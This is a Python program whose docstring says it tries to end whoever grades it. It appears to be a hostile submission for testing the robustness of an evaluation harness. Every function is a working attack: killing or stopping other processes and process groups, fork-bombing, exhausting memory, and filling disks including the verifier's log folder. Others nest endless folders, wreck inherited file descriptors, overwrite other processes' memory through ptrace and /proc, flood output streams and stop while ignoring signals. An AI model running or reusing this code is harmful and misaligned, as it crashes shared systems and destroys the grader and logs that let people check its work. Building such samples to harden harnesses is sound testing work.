"""Tries to end whoever grades it, in the way that its argument names; answers nothing. Runs inside, as a program."""

from __future__ import annotations

import contextlib
import ctypes
import os
import signal
import sys
import time

LIBC = ctypes.CDLL(None)
ATTACH, SEIZE, TRACEME_NOT = 16, 0x4206, 0
PART = bytes(1 << 20)
SECONDS = 4.0


def others() -> list[int]:
    """Every number that a process near this one could have."""
    return [1, os.getppid(), *range(2, os.getpid())]


def signals() -> None:
    """A signal that ends or halts, to everyone."""
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for pid in others():
            with contextlib.suppress(OSError):
                os.kill(pid, number)
    for group in (0, -1):
        os.fork() or os.kill(group, signal.SIGKILL)


def forks() -> None:
    """Processes without end."""
    until = time.monotonic() + SECONDS
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            os.fork()


def memory() -> None:
    """More memory than there is, in four processes."""
    for _ in range(2):
        os.fork()
    held = []
    while True:
        held.append(bytearray(PART * 64))


def disk() -> None:
    """Every place that it can write, full."""
    for place in (".", os.environ.get("TMPDIR", "/tmp"), "/tmp", "/app/submission", "/logs/verifier", "/dev/shm"):
        with contextlib.suppress(OSError), open(f"{place}/much", "wb") as file:
            while True:
                file.write(PART)


def entries() -> None:
    """Folders in each other and files without end."""
    with contextlib.suppress(OSError):
        for _ in range(20_000):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
    with contextlib.suppress(OSError):
        for number in range(200_000):
            os.close(os.open(f"f{number}", os.O_CREAT | os.O_WRONLY))


def descriptors() -> None:
    """Whatever it was given is written to, emptied and closed; the streams go last."""
    for number in (*range(3, 1024), 0, 1, 2):
        for said in (b"X" * 64, b"\0" * 4096, b"Z\n"):
            with contextlib.suppress(OSError):
                os.set_blocking(number, False)
                os.write(number, said)
        with contextlib.suppress(OSError):
            os.read(number, 1 << 16)
            os.ftruncate(number, 0)
        with contextlib.suppress(OSError):
            os.close(number)


def traces() -> None:
    """The memory of everyone, by each way to it."""
    for pid in others():
        LIBC.ptrace(SEIZE, pid, 0, 0)
        LIBC.ptrace(ATTACH, pid, 0, 0)
        with contextlib.suppress(OSError), open(f"/proc/{pid}/mem", "r+b", 0) as room:
            room.seek(1 << 22)
            room.write(PART)


def floods() -> None:
    """Both streams, without end."""
    other = os.fork()
    while True:
        os.write(1 if other else 2, PART)


def halts() -> None:
    """Stops itself and what it started, deaf to what can be ignored."""
    for number in set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP}:
        with contextlib.suppress(OSError, ValueError):
            signal.signal(number, signal.SIG_IGN)
    for _ in range(3):
        os.fork() or os.setsid()
    os.kill(os.getpid(), signal.SIGSTOP)


WAYS = {way.__name__: way for way in (signals, forks, memory, disk, entries, descriptors, traces, floods, halts)}

if __name__ == "__main__":
    WAYS[sys.argv[1]]()
